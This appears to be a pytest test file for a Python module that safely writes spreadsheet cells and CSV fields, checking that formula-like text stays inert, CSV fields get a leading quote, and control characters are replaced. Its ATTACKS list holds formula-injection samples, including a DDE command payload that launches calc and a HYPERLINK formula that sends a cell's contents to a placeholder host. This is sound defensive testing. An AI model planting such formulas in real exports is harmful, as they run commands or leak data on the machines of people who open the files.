"""The one cell writer and text cleaner every export and document uses."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment, Font

from tousu.web.cells import (
    XLSX_MAX_TEXT,
    CsvWriter,
    cell_sheet,
    csv_field,
    xlsx_cell,
    xml_text,
)

ATTACKS = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A2,"点此查看")',
    "+86 138 0000 1111",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def _round_trip(values: list[Any]) -> list[Any]:
    """Write one row with ``xlsx_cell`` and read the cells back with openpyxl."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([xlsx_cell(ws, v) for v in values])
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    return list(next(load_workbook(buffer)["s"].iter_rows(min_row=1, max_row=1)))


def test_xml_text_replaces_only_what_xml_cannot_hold():
    cannot = [chr(c) for c in range(0x20) if c not in (0x09, 0x0A, 0x0D)]
    cannot += ["\ud800", "\udfff", "\ufffe", "\uffff"]
    for ch in cannot:
        assert xml_text(f"a{ch}b") == "a\ufffdb", repr(ch)
    # Tab, newlines, C1 controls, the replacement character and astral characters stay.
    kept = "\t\n\r\x7f\x80\x85\x9f\ufffd\ue000𠀀😀中文"
    assert xml_text(kept) == kept


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_typed_as_text_stays_text_in_an_xlsx(text):
    (cell,) = _round_trip([text])
    # XML reads a carriage return back as a line feed; nothing else changes.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")


def test_a_control_character_or_lone_surrogate_cannot_break_an_xlsx():
    cells = _round_trip(["ctrl \x1b[31m \x07", "half \ud83d pair", "\x00\ufffe"])
    assert [c.value for c in cells] == [
        "ctrl \ufffd[31m \ufffd",
        "half \ufffd pair",
        "\ufffd\ufffd",
    ]


def test_numbers_and_dates_stay_numbers_and_dates_in_an_xlsx():
    when = datetime(2026, 3, 10, 9, 30)
    cells = _round_trip([42, -3.5, Decimal("1.25"), when, date(2026, 3, 10), None, True])
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert [c.value for c in cells[:3]] == [42, -3.5, 1.25]
    assert cells[3].is_date and cells[3].value == when
    assert cells[4].is_date and cells[4].value == datetime(2026, 3, 10)
    assert cells[5].value is None and cells[6].value is True


def test_text_longer_than_an_excel_cell_is_cut_with_an_ellipsis():
    (cell,) = _round_trip(["长" * (XLSX_MAX_TEXT + 10)])
    assert len(cell.value) == XLSX_MAX_TEXT and cell.value.endswith("…")


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_in_a_csv_gets_a_leading_quote(text):
    assert csv_field(text) == "'" + text


def test_csv_keeps_numbers_dates_and_plain_text_and_cleans_controls():
    assert csv_field(-5) == -5 and csv_field(Decimal("2.50")) == Decimal("2.50")
    assert csv_field(datetime(2026, 3, 10, 9, 30)) == "2026-03-10 09:30:00"
    assert csv_field(date(2026, 3, 10)) == "2026-03-10"
    assert csv_field(None) == "" and csv_field("王建国") == "王建国"
    assert csv_field("a=b") == "a=b"
    assert csv_field("ctrl \x1b \ud800") == "ctrl \ufffd \ufffd"

    out = io.StringIO()
    CsvWriter(out).writerows([["编号", "内容"], ["TS-1", '=HYPERLINK("x","y")'], [1, None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["编号", "内容"],
        ["TS-1", '\'=HYPERLINK("x","y")'],
        ["1", ""],
    ]


ROWS: list[list[Any]] = [
    ["编号", "  leading and trailing  ", "a < b & c > d", "", None, "line\none"],
    [*ATTACKS[:4], "ctrl \x1b[31m \x07", "\ud800 lone"],
    [1, 2.5, Decimal("3.25"), True, date(2026, 3, 10), datetime(2026, 3, 10, 9, 30)],
    [None, None, "after two empty cells"],
    [],
]


def _sheet_of(make_sheet: Any) -> Any:
    wb = Workbook(write_only=True)
    ws = make_sheet(wb)
    bold = Font(bold=True)
    wrapped = Alignment(wrap_text=True, vertical="top")
    for values in ROWS:
        ws.append([xlsx_cell(ws, v) for v in values])
    ws.append(
        [
            xlsx_cell(ws, "bold", font=bold),
            xlsx_cell(ws, datetime(2026, 1, 5, 10), number_format='yyyy-mm-dd hh:mm "电话"'),
            xlsx_cell(ws, "wrapped\nlines", alignment=wrapped),
            xlsx_cell(ws, None, font=bold),
        ]
    )
    buffer = io.BytesIO()
    wb.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]


def _described(sheet: Any) -> list[list[Any]]:
    return [
        [
            (c.coordinate, c.value, c.data_type, c.number_format, c.font.b, c.alignment.wrap_text)
            for c in row
        ]
        for row in sheet.iter_rows()
    ]


def test_a_cell_sheet_writes_what_openpyxl_writes():
    plain = _sheet_of(lambda wb: wb.create_sheet("s"))
    fast = _sheet_of(lambda wb: cell_sheet(wb, "s"))
    assert _described(fast) == _described(plain)
    values = [c.value for c in next(fast.iter_rows(min_row=2, max_row=2))]
    assert values[:4] == ATTACKS[:4]
    assert fast["B1"].value == "  leading and trailing  " and fast["C1"].value == "a < b & c > d"
    assert fast["F3"].is_date and fast["B6"].number_format == 'yyyy-mm-dd hh:mm "电话"'


def test_a_cell_sheet_refuses_a_plain_value_or_a_formula():
    wb = Workbook(write_only=True)
    ws = cell_sheet(wb, "s")
    with pytest.raises(TypeError):
        ws.append(["=1+2"])
    ws = cell_sheet(wb, "t")
    formula = xlsx_cell(ws, "text")
    formula.value = "=1+2"  # openpyxl's own setter makes it a formula
    assert formula.data_type == "f"
    with pytest.raises(ValueError, match="formula"):
        ws.append([formula])
